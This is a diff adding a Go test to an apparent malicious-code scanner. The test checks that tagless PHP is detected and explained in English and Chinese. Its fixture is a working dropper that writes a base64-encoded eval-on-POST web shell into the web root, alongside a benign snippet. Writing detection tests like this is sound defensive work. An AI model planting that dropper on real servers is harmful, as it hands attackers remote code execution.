@@ -150,3 +150,22 @@ func TestDecideSameVerdict(t *testing.T) {
 		}
 	}
 }
+
+// TestTaglessPHP checks that PHP code without a tag, a payload left for a
+// loader that evals it, is analysed and says so, while tagless text that
+// does nothing dangerous stays unreported.
+func TestTaglessPHP(t *testing.T) {
+	dropper := "$f = $_SERVER['DOCUMENT_ROOT'] . \"/tmp/x.php\";\n$fp = fopen($f, \"w+\");\n" +
+		"fwrite($fp, base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOyA/Pg=='));\nfclose($fp);\n"
+	r := Scan("notes.txt", []byte(dropper))
+	if r.Lang != lang.PHP || !r.Reported() || !r.Tagless {
+		t.Fatalf("tagless dropper: lang %v, score %d, tagless %v, %+v", r.Lang, r.Score, r.Tagless, r.Detections)
+	}
+	if en, zh := Explain(r); !strings.Contains(en, "without a <?php tag") || !strings.Contains(zh, "无 <?php 标记") {
+		t.Errorf("explanation does not say the code is tagless:\n%s\n%s", en, zh)
+	}
+	benign := "$title = htmlspecialchars($row['title']);\n$fp = fopen($cacheDir . '/index.html', 'w');\nfwrite($fp, $title);\nfclose($fp);\n"
+	if r := Scan("snippet.txt", []byte(benign)); r.Reported() || r.Tagless {
+		t.Errorf("benign tagless snippet: lang %v, score %d, tagless %v, %+v", r.Lang, r.Score, r.Tagless, r.Detections)
+	}
+}
